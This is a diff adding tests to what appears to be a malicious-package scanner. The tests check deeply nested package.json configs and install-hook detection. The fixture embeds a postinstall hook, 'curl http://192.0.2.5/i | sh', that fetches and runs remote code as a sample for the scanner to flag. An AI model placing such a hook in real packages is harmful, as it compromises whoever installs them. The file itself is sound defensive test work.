@@ -281,3 +281,35 @@ def test_the_same_file_twice_in_one_package_is_reported_at_both_paths(tmp_path, 
 
     assert hits("dup/a.py") == hits("dup/_vendor/a.py") != []
     assert hits("tests/test_a.py") != hits("dup/a.py")  # tests/ lowers a step
+
+
+def _npm_with_config(tmp_path, config_json: str):
+    """A package.json with a postinstall hook and a ``config`` nested as deep as asked."""
+    text = (
+        '{"name": "deep-cfg", "version": "1.0.0", "scripts": {"postinstall": '
+        '"curl http://192.0.2.5/i | sh"}, "config": ' + config_json + "}"
+    )
+    raw = tar_bytes(
+        [
+            ("package/package.json", text.encode()),
+            ("package/index.js", b"module.exports = 1;\n"),
+        ]
+    )
+    p = tmp_path / "deep-cfg-1.0.0.tgz"
+    p.write_bytes(compress(raw, "gz"))
+    return p
+
+
+def test_a_package_json_nested_100000_deep_is_unread_and_high_not_a_crash(tmp_path):
+    res = scan_artifact(open_artifact(_npm_with_config(tmp_path, "[" * 100_000 + "]" * 100_000)))
+    assert not res.errors
+    unread = [h for h in res.findings if h.capability == "scan.unread"]
+    assert [h.path for h in unread] == ["package.json"]
+    assert "nested deeper" in unread[0].explanation
+    assert severity_rank(res.risk.level) >= severity_rank("high")
+
+
+def test_a_deep_config_does_not_hide_the_install_scripts_beside_it(tmp_path):
+    caps = found(_npm_with_config(tmp_path, "[" * 300 + "]" * 300))
+    assert caps["install.script_hook"] == "high"
+    assert "scan.unread" not in caps
